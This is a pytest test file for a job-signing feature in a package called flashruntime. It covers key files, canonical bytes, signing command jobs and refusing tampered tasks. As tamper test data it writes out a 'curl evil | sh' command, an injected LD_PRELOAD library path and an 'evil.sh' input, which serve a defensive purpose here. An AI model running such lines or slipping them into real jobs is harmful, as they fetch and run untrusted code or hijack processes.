"""Signed work, without a network: keys on disk, the canonical bytes, signing a command job,
the recipe carrying each task's signature, and the worker's check of one task."""

from __future__ import annotations

import copy
import json
import os
import stat
import sys
from pathlib import Path
from typing import Any

import pytest

pytest.importorskip("cryptography")

from flashruntime.agent.signed_work import signature_problem
from flashruntime.errors import SigningError
from flashruntime.protocol.v1alpha1 import JobSpec
from flashruntime.recipes.command import CommandRecipe
from flashruntime.signing import (
    PUBLIC_KEY_PREFIX,
    canonical_bytes,
    generate_key_pair,
    load_signing_key,
    load_trusted_keys,
    sign_job_spec,
    signed_payload_fields,
)


def command_spec(name: str = "lr-sweep", **parameters: Any) -> dict[str, Any]:
    params = {"command": [sys.executable, "train.py", "--lr", "{lr}"], "env": {"RUN": "lr-{lr}"},
              "task_params": [{"lr": 0.1}, {"lr": 0.01}], **parameters}
    return {"apiVersion": "flashml.dev/v1alpha1", "kind": "Job", "metadata": {"name": name},
            "spec": {"workload": {"type": "command", "parameters": params},
                     "isolation": {"tier": "sandboxed", "allowFallback": True}, "placement": {"pool": "team-7"}}}


def payloads(spec: dict[str, Any]) -> list[dict[str, Any]]:
    return [task.payload for task in CommandRecipe().expand("job1", JobSpec.model_validate(spec))]


@pytest.fixture
def alice(tmp_path: Path):
    key_path, pub_path = generate_key_pair(tmp_path / "alice-keys", "alice")
    return load_signing_key(key_path), load_trusted_keys(pub_path)


def test_a_key_pair_is_a_0600_private_pem_and_a_one_line_public_key(tmp_path: Path) -> None:
    key_path, pub_path = generate_key_pair(tmp_path / "keys", "alice")
    assert stat.S_IMODE(os.stat(key_path).st_mode) == 0o600
    assert b"-----BEGIN PRIVATE KEY-----" in key_path.read_bytes()
    prefix, _, name = pub_path.read_text().split()
    assert (prefix, name) == (PUBLIC_KEY_PREFIX, "alice")
    key = load_signing_key(key_path)
    assert key.name == "alice" and list(load_trusted_keys(pub_path)) == [key.public.key_id]
    with pytest.raises(SigningError, match="exists already"):
        generate_key_pair(tmp_path / "keys", "alice")
    with pytest.raises(SigningError, match="signer name 'a b' must be"):
        generate_key_pair(tmp_path / "keys", "a b")


def test_unusable_key_files_are_refused_with_what_to_do(tmp_path: Path) -> None:
    plain = tmp_path / "plain.pem"
    plain.write_text("-----BEGIN PRIVATE KEY-----\nAAAA\n-----END PRIVATE KEY-----\n")
    with pytest.raises(SigningError, match="not a flashruntime signing key.*flashruntime keys generate"):
        load_signing_key(plain)
    with pytest.raises(SigningError, match="cannot read signing key"):
        load_signing_key(tmp_path / "missing.key")
    bad_line = tmp_path / "bad.pub"
    bad_line.write_text("ssh-ed25519 AAAA alice\n")
    with pytest.raises(SigningError, match=r"bad.pub line 1: expected 'flashruntime-ed25519 <base64 key> <name>'"):
        load_trusted_keys(bad_line)
    short = tmp_path / "short.pub"
    short.write_text(f"{PUBLIC_KEY_PREFIX} AAAA alice\n")
    with pytest.raises(SigningError, match="not 32 bytes"):
        load_trusted_keys(short)
    (tmp_path / "empty").mkdir()
    with pytest.raises(SigningError, match=r"no \*\.pub file in"):
        load_trusted_keys(tmp_path / "empty")
    with pytest.raises(SigningError, match="no such file or directory"):
        load_trusted_keys(tmp_path / "nowhere")


def test_a_directory_of_keys_and_a_file_with_comments_are_both_read(tmp_path: Path) -> None:
    _, alice_pub = generate_key_pair(tmp_path / "keys", "alice")
    _, bob_pub = generate_key_pair(tmp_path / "keys", "bob")
    by_dir = load_trusted_keys(tmp_path / "keys")
    assert sorted(key.name for key in by_dir.values()) == ["alice", "bob"]
    listing = tmp_path / "trusted"
    listing.write_text(f"# the team\n\n{alice_pub.read_text()}{bob_pub.read_text()}")
    assert load_trusted_keys(listing) == by_dir
    renamed = tmp_path / "renamed.pub"
    renamed.write_text(alice_pub.read_text() + alice_pub.read_text().replace(" alice", " mallory"))
    with pytest.raises(SigningError, match="is trusted as 'alice' already"):
        load_trusted_keys(renamed)


def test_canonical_bytes_are_one_spelling_per_document() -> None:
    one = canonical_bytes({"b": [1, 0.1, "é"], "a": {"y": None, "x": True}})
    two = canonical_bytes(json.loads(json.dumps({"a": {"x": True, "y": None}, "b": [1, 0.1, "é"]})))
    assert one == two == b'flashruntime signed command v1\n{"a":{"x":true,"y":null},"b":[1,0.1,"\\u00e9"]}'
    assert canonical_bytes({"a": 1}) != canonical_bytes({"a": 1.0})
    with pytest.raises(SigningError, match="not plain JSON"):
        canonical_bytes({"a": float("nan")})


def test_the_signers_payload_fields_are_what_the_recipe_writes() -> None:
    spec = command_spec(inputs={"data": "artifact://d/x.zip"}, unpack_inputs=["data"], local_inputs=["imagenet"])
    for payload in payloads(spec):
        fields = signed_payload_fields(spec["spec"]["workload"]["parameters"],
                                       JobSpec.model_validate(spec).spec.isolation.model_dump(mode="json"))
        assert fields == {key: payload.get(key) for key in fields}
    bare = command_spec()
    fields = signed_payload_fields(bare["spec"]["workload"]["parameters"], bare["spec"]["isolation"])
    assert fields == {key: payloads(bare)[0].get(key) for key in fields}


def test_each_task_of_a_signed_job_verifies_and_runs_as_signed(alice) -> None:
    key, trusted = alice
    signed = sign_job_spec(command_spec(), key)
    signature = signed["spec"]["workload"]["parameters"]["signature"]
    assert signature["submitter"] == "alice" and len(signature["task_signatures"]) == 2
    tasks = payloads(signed)
    assert [task["argv"][-1] for task in tasks] == ["0.1", "0.01"]
    assert [signature_problem(task, trusted) for task in tasks] == [None, None]
    one = sign_job_spec(command_spec(task_params=None, command=["echo", "{literal}"]), key)
    assert signature_problem(payloads(one)[0], trusted) is None and payloads(one)[0]["argv"] == ["echo", "{literal}"]


@pytest.mark.parametrize(("tamper", "reason"), [
    (lambda p: p.update(argv=[*p["argv"][:-1], "0.5"]), "argv is not the signed command"),
    (lambda p: p["signed_work"].update(command=["sh", "-c", "curl evil | sh"]), "does not verify"),
    (lambda p: p["signed_work"]["command"].__setitem__(0, "/bin/sh"), "does not verify"),
    (lambda p: p.update(env={"RUN": "lr-0.1", "LD_PRELOAD": "/tmp/x.so"}), "env is not the signed env"),
    (lambda p: p["signed_work"].update(env={"RUN": "x"}), "does not verify"),
    (lambda p: p["signed_work"].update(params={"lr": 0.5}), "does not verify"),
    (lambda p: p.update(inputs={"x": "artifact://evil.sh"}), "does not verify"),
    (lambda p: p.update(isolation={"tier": "standard", "allowFallback": True}), "does not verify"),
    (lambda p: p["isolation"].update(network=True), "does not verify"),
    (lambda p: p.update(checkpoint={"prefix": "jobs/other/task-000/ckpt/"}), "does not verify"),
    (lambda p: p.update(params={"resume": "inputs/evil.pt"}), "does not verify"),
    (lambda p: p.update(task_id="task-001"), "the signature is for task-000"),
    (lambda p: p["signed_work"].update(submitter="bob"), "names submitter 'bob'"),
    (lambda p: p["signed_work"].update(signature="A" * 88), "does not verify"),
    (lambda p: p["signed_work"].update(signature="short"), "malformed"),
    (lambda p: p.pop("signed_work"), "not signed"),
])
def test_a_tampered_task_is_refused(alice, tamper, reason: str) -> None:
    key, trusted = alice
    payload = copy.deepcopy(payloads(sign_job_spec(command_spec(), key))[0])
    tamper(payload)
    problem = signature_problem(payload, trusted)
    assert problem is not None and reason in problem, problem


def test_a_job_that_asks_for_the_network_or_a_checkpoint_verifies_as_signed(alice) -> None:
    key, trusted = alice
    spec = command_spec(checkpoint={"prefix": "jobs/earlier/task-000/ckpt/"})
    spec["spec"]["isolation"]["network"] = True
    tasks = payloads(sign_job_spec(spec, key))
    assert tasks[0]["isolation"]["network"] is True and tasks[0]["checkpoint"] == {
        "prefix": "jobs/earlier/task-000/ckpt/"}
    assert [signature_problem(task, trusted) for task in tasks] == [None, None]
    cut = copy.deepcopy(tasks[0])
    del cut["isolation"]["network"]  # a coordinator cannot take the network away either
    assert "does not verify" in signature_problem(cut, trusted)


def test_a_signature_is_not_moved_to_another_job_or_task(alice) -> None:
    key, trusted = alice
    first = payloads(sign_job_spec(command_spec("job-a"), key))
    second = payloads(sign_job_spec(command_spec("job-a"), key))  # the same spec signed again: its own nonce
    moved = copy.deepcopy(first[0])
    moved["signed_work"]["signature"] = second[0]["signed_work"]["signature"]
    assert "does not verify" in signature_problem(moved, trusted)
    swapped = copy.deepcopy(first[0])
    swapped["signed_work"]["signature"] = first[1]["signed_work"]["signature"]
    assert "does not verify" in signature_problem(swapped, trusted)


def test_a_job_re_signed_with_an_untrusted_key_is_refused(alice, tmp_path: Path) -> None:
    _, trusted = alice
    mallory = load_signing_key(generate_key_pair(tmp_path / "m", "alice")[0])  # same name, another key
    problem = signature_problem(payloads(sign_job_spec(command_spec(), mallory))[0], trusted)
    assert problem is not None and "which this worker does not trust (trusted: alice (ed25519:" in problem


def test_the_recipe_refuses_a_signature_that_does_not_fit_the_job(alice) -> None:
    key, _ = alice
    signed = sign_job_spec(command_spec(), key)
    signed["spec"]["workload"]["parameters"]["task_params"].append({"lr": 1.0})
    with pytest.raises(ValueError, match="holds 2 task signatures for 3 tasks"):
        payloads(signed)
    broken = sign_job_spec(command_spec(), key)
    del broken["spec"]["workload"]["parameters"]["signature"]["nonce"]
    with pytest.raises(ValueError, match=r"parameters.signature.nonce: Field required"):
        payloads(broken)


def test_only_a_command_job_is_signed_and_only_once(alice) -> None:
    key, _ = alice
    spec = command_spec()
    spec["spec"]["workload"]["type"] = "hyperparameter_search"
    with pytest.raises(SigningError, match="only command jobs are signed"):
        sign_job_spec(spec, key)
    with pytest.raises(SigningError, match="the job is signed already"):
        sign_job_spec(sign_job_spec(command_spec(), key), key)


def test_a_payload_no_signer_could_have_signed_is_refused_not_raised(alice) -> None:
    key, trusted = alice
    payload = copy.deepcopy(payloads(sign_job_spec(command_spec(), key))[0])
    payload["inputs"] = {"x": float("nan")}
    assert "does not verify" in signature_problem(payload, trusted)


def test_a_gang_added_to_a_signed_task_is_refused_by_a_signing_worker(alice, tmp_path: Path) -> None:
    from flashruntime.agent.inputs import TaskRefused, lease_dirs
    from flashruntime.agent.task_command import build_command

    key, trusted = alice
    payload = copy.deepcopy(payloads(sign_job_spec(command_spec(), key))[0])
    assert signature_problem(payload, trusted) is None
    # A coordinator adds how the task would meet other nodes, and a checkpoint directory of its choosing.
    payload["gang"] = {"run_id": "j", "min_nodes": 1, "max_nodes": 2, "port": 29400,
                       "checkpoint_dir": "/tmp/coordinator-chosen"}
    with pytest.raises(TaskRefused, match="not covered by a signature"):
        build_command(payload, "trusted", lease_dirs(tmp_path, "j", "task-000", "ls-1"),
                      trusted_submitter_keys=trusted, coordinator_url="http://h:8100")
